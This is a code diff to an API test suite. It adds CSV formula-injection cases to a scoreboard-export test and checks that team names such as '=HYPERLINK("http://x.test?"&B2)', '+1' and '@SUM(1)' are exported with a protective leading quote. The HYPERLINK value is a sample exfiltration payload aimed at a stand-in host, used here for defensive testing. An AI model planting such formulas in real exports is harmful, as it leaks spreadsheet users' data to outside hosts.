@@ -1,4 +1,5 @@
 import { readFile } from 'node:fs/promises';
+import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -12,6 +13,9 @@ const fixture = () =>
     new URL('../../../packages/domain/src/fixtures/route-roma-centro.json', import.meta.url),
     'utf8',
   );
+
+/** Team names a spreadsheet would run as formulas. */
+const FORMULAS = ['=HYPERLINK("http://x.test?"&B2)', '+1', '-1', '@SUM(1)', '\tTab', '\rCr'];
 
 const form = (overrides: Record<string, unknown> = {}) => ({
   title: 'Giro dei Musei',
@@ -418,6 +422,16 @@ describe(`route management on ${TEST_DB}`, () => {
           progress: 5,
           total: 6,
         },
+        // Spreadsheets run a cell that starts with = + - @ (or tab, CR) as a formula.
+        ...FORMULAS.map((name, i) => ({
+          tenant_id: tenantId,
+          route_id: id,
+          team_name: name,
+          email: `f${i}@x.it`,
+          score: 10 - i,
+          progress: 0,
+          total: 6,
+        })),
       ]);
     const csv = await api('GET', `/routes/${id}/scoreboard.csv`);
     expect(csv.headers['content-disposition']).toMatch(
@@ -430,8 +444,15 @@ describe(`route management on ${TEST_DB}`, () => {
     expect(lines[0]).toBe('Team Name,Email,Score,Progress,Total Steps,Last Seen');
     expect(lines[1]).toMatch(/^Aquile,a@x\.it,45,5,6,/);
     expect(lines[2]).toMatch(/^"Lupi, ""Grigi""",l@x\.it,30,3,6,/);
+    // Each such name is exported as text: a quote in front, so no formula runs.
+    const exported = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as {
+      'Team Name': string;
+    }[];
+    expect(exported.slice(2).map((row) => row['Team Name'])).toEqual(
+      FORMULAS.map((name) => `'${name}`),
+    );
     expect((await api('DELETE', `/routes/${id}/scoreboard`)).json()).toEqual({
-      entries_affected: 2,
+      entries_affected: 2 + FORMULAS.length,
     });
   });
 
